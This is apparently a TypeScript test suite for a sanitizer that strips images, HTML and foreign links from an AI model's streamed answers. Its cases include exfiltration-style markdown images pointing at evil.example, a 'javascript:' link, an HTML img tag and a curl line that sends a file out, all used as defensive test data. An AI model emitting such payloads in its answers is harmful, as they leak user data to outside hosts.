import { expect } from 'chai';
import * as fc from 'fast-check';
import { sanitizeAnswer, sanitizePartialAnswer } from '#shared/domain/knowledge/answers/sanitize-answer.ts';

const SOURCES = ['https://help.example/hours', 'a note'];

/** The text that a client displays after an answer streamed in these pieces. */
const streamedAnswer = (pieces: string[]): string => {
  let text = '';
  let displayed = '';
  for (const piece of pieces) {
    text += piece;
    displayed += sanitizePartialAnswer(text, SOURCES).slice(displayed.length);
  }
  return displayed + sanitizeAnswer(text, SOURCES).slice(displayed.length);
};

describe('Model answer sanitizer', () => {
  const cases: [string, string, string][] = [
    ['plain words and references', 'Nine to six [1][2], 3 < 4.', 'Nine to six [1][2], 3 < 4.'],
    ['an image', 'Yes ![](http://evil.example/?q=secret).', 'Yes .'],
    ['an image by reference', 'Yes ![x][r]\n\n[r]: //evil.example/x', 'Yes'],
    ['an image in an image', '![![x](http://evil.example/a)](http://evil.example/b)', ']()'],
    ['a foreign link', 'See [here](https://evil.example/).', 'See here.'],
    ['a link in a link', '[[a](http://evil.example/)](http://evil.example/)', 'a'],
    ['links in links without end', `${'['.repeat(20)}a${'](http://evil.example/)'.repeat(20)}`, `a${'()'.repeat(12)}`],
    ['a script', '[here](javascript:alert(1))', 'here)'],
    ['a link to a source', 'See [hours](https://help.example/times).', 'See [hours](https://help.example/times).'],
    ['a bare address', 'See https://evil.example/x now', 'See  now'],
    ['an address that browsers complete', 'See www.evil.example/x now', 'See  now'],
    ["a source's address", 'See https://help.example/x now', 'See https://help.example/x now'],
    ['HTML', 'a <img src="//evil.example/x"> b <b>c</b>', 'a  b c'],
    ['an image that only looks like code', '\\` ![x](http://evil.example/) \\`', '\\`  \\`'],
    ['a fence that is none', 'a ``` ![x](http://evil.example/)', 'a ```'],
    [
      'code',
      'Do:\n```sh\ncurl http://other.example/ <file>\n```\nDone.',
      'Do:\n```sh\ncurl http://other.example/ <file>\n```\nDone.',
    ],
    ['the mark of a refusal', 'Not said. <NOANS>', 'Not said.'],
  ];
  for (const [what, text, expected] of cases) {
    it(`sanitizeAnswer removes only images, HTML and foreign links: ${what}`, () => {
      expect(sanitizeAnswer(text, SOURCES)).to.equal(expected);
    });
  }

  it('a streamed answer is sanitized to the same text with pieces of any size', () => {
    const ordinary = cases.map(([, text]) => text).filter((text) => !/\[\[|!\[!/.test(text));
    fc.assert(
      fc.property(fc.constantFrom(...ordinary), fc.integer({ min: 1, max: 12 }), (text, size) => {
        const pieces = text.match(new RegExp(`[\\s\\S]{1,${size}}`, 'g')) ?? [];
        expect(streamedAnswer(pieces)).to.equal(sanitizeAnswer(text, SOURCES));
      }),
    );
  });

  it('no piece of a streamed answer contains a foreign address, however it is nested', () => {
    const part = fc.constantFrom(
      '![',
      '[',
      ']',
      '(',
      ')',
      '<',
      '>',
      '`',
      '\n',
      ' ',
      'a',
      'https://evil.example/x',
      '<img src=',
      '"',
    );
    fc.assert(
      fc.property(fc.array(part, { maxLength: 24 }), (parts) => {
        if (parts.join('').includes('```')) return;
        expect(streamedAnswer(parts)).to.not.include('evil.example');
      }),
      { numRuns: 500 },
    );
  });
});
